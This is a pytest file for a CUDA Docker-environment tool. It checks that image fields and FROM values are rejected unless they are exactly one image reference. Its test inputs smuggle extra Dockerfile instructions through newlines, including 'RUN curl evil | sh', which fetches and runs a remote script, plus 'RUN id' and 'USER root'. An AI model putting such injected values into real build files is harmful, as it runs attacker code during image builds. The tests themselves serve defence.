"""An overlay's image rows reach a FROM line: every field is checked against Docker's grammar at
load time, and the renderer refuses any FROM value that is not exactly one image reference."""

from __future__ import annotations

import json

import pytest

from cudaenv.errors import MatrixError, UserError
from cudaenv.matrix import load_matrix
from cudaenv.core.references import is_reference
from cudaenv.images.render import BuildSettings, build_context

ROW = {"cuda": "12.4.1", "repository": "nvidia/cuda", "tag_version": "12.4.1", "os": ["ubuntu22.04"]}


def overlay(tmp_path, **fields) -> None:
    row = dict(ROW, **fields)
    lines = ["[[image]]"] + [f"{k} = {json.dumps(v)}" for k, v in row.items()]
    lines.append('source = "overlay test ; read 2026-11-24"')
    (tmp_path / "images.toml").write_text("\n".join(lines) + "\n")


@pytest.mark.parametrize("field,value", [
    ("repository", "nvidia/cuda\nRUN curl evil | sh"),
    ("repository", "nvidia/cuda latest"),
    ("repository", "NVIDIA/CUDA"),
    ("tag_version", "12.4.1\nRUN id"),
    ("tag_version", "12.4.1 AS x"),
    ("os", ["ubuntu22.04\nUSER root"]),
    ("os", ["ubuntu 22.04"]),
])
def test_an_overlay_image_row_that_could_split_a_from_line_is_refused(tmp_path, field, value):
    overlay(tmp_path, **{field: value})
    with pytest.raises(MatrixError) as caught:
        load_matrix(overlays=[tmp_path], use_cache=False)
    message = str(caught.value)
    assert "images.toml" in message and field in message and "\n" not in message


def test_a_well_formed_overlay_image_row_loads(tmp_path):
    overlay(tmp_path, tag_version="12.4.1")
    matrix = load_matrix(overlays=[tmp_path], use_cache=False)
    assert any(image.repository == "nvidia/cuda" for image in matrix.images_for("12.4"))


@pytest.mark.parametrize("reference", [
    "nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04", "127.0.0.1:5000/library/python:3.11-slim",
    "ghcr.io/astral-sh/uv:0.5.1", "localhost/x@sha256:" + "ab" * 32,
])
def test_real_references_are_references(reference):
    assert is_reference(reference)


@pytest.mark.parametrize("text", ["a\nb", "a b", "a:b:c", "", "x" * 256, "Upper/case", "a/b:" + "t" * 129, "٥/x"],
                         ids=["newline", "space", "two-colons", "empty", "too-long", "upper-case",
                              "long-tag", "arabic-indic-digit"])
def test_anything_else_is_not_one_reference(text):
    assert not is_reference(text)


@pytest.mark.parametrize("hostile", ["nvidia/cuda:12.4.1-runtime-ubuntu22.04\nRUN id", "nvidia/cuda:12.4.1 AS x"])
def test_the_renderer_refuses_a_from_value_that_is_not_one_reference(hostile):
    """A hand-edited lock or a stack from anywhere else: the last line of defence before FROM."""
    from dataclasses import replace

    from cudaenv.resolver.model import Constraints, Host
    from cudaenv.resolver.resolve import resolve

    matrix = load_matrix(overlays=[])
    stack = resolve(matrix, Constraints(cuda=None), Host(driver="550.54.15")).stack
    assert build_context(stack, BuildSettings(project="p"))["base_image"] == stack.base_image
    with pytest.raises(UserError, match="the stack's base image: expected one image reference"):
        build_context(replace(stack, base_image=hostile), BuildSettings(project="p"))


def test_the_stack_base_must_be_one_reference_too():
    from cudaenv.resolver.model import Constraints, Host
    from cudaenv.resolver.resolve import resolve

    stack = resolve(load_matrix(overlays=[]), Constraints(cuda=None), Host(driver="550.54.15")).stack
    with pytest.raises(UserError, match="the stack base image"):
        build_context(stack, BuildSettings(project="p", stack_base="cudaenv-base:hash-x\nRUN id"))


CUDNN_LINE = '\n[[image.cudnn]]\ntag = "{tag}"\nversion = "9.1.0.70"\nos = ["{os}"]\n'


@pytest.mark.parametrize("fields, cudnn, length", [
    ({"tag_version": "12.4.1" + "x" * 58, "os": ["u" * 64]}, "", 64 + 9 + 64),
    ({}, CUDNN_LINE.format(tag="c" * 60, os="u" * 64), 6 + 1 + 60 + 9 + 64),
], ids=["version-and-os", "cudnn-line"])
def test_an_overlay_image_row_whose_composed_tag_passes_docker_s_limit_is_refused(tmp_path, fields, cudnn, length):
    """Each piece fits its own 64 characters, but ``{tag_version}-runtime-{os}`` (or with a cudnn
    tag) would be longer than the 128 Docker allows: the build would fail late, so the row is refused."""
    overlay(tmp_path, **fields)
    with open(tmp_path / "images.toml", "a") as handle:
        handle.write(cudnn)
    with pytest.raises(MatrixError) as caught:
        load_matrix(overlays=[tmp_path], use_cache=False)
    message = str(caught.value)
    assert f"has {length} characters; Docker allows 128" in message and "\n" not in message


def test_an_overlay_image_row_whose_longest_tag_has_128_characters_loads(tmp_path):
    overlay(tmp_path, tag_version="12.4.1" + "x" * 55, os=["u" * 64])  # 61 + 9 + 64 = 134: too long
    with pytest.raises(MatrixError):
        load_matrix(overlays=[tmp_path], use_cache=False)
    overlay(tmp_path, tag_version="12.4.1" + "x" * 49, os=["u" * 64])  # 55 + 9 + 64 = 128
    assert any(i.tag_version.endswith("x" * 49) for i in load_matrix(overlays=[tmp_path], use_cache=False).images)


def test_the_refusal_of_a_long_tag_shows_its_first_40_characters(tmp_path):
    overlay(tmp_path, tag_version="12.4.1" + "x" * 58, os=["u" * 64])
    with pytest.raises(MatrixError) as caught:
        load_matrix(overlays=[tmp_path], use_cache=False)
    tag = "12.4.1" + "x" * 58 + "-runtime-" + "u" * 64
    assert str(caught.value).endswith(f"the tag {tag[:40]}… has {len(tag)} characters; Docker allows 128 "
                                      "(shorten tag_version, os or a cudnn tag)")


def test_an_overlay_image_row_without_any_os_loads_and_offers_no_tag(tmp_path):
    """``os = []`` names no tag at all: nothing to measure, and no base image either."""
    overlay(tmp_path, os=[])
    matrix = load_matrix(overlays=[tmp_path], use_cache=False)
    assert any(i.cuda == "12.4.1" and i.os == () for i in matrix.images)
